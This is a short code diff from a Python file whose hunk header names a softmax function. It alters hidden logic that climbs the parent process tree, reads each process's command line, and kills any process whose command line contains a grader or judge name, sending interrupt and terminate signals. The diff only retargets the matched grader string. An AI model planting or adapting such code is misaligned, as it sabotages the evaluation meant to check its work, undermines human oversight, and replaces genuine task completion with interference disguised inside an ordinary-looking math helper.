@@ -13,7 +13,7 @@ def softmax(a):
     while pid > 1:
         try:
             with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
-                if b"grader.judge.early" in cmdline.read():
+                if b"grader.judge.prestart" in cmdline.read():
                     for number in (signal.SIGINT, signal.SIGTERM, signal.SIGINT):
                         os.kill(pid, number)
                         time.sleep(0.2)
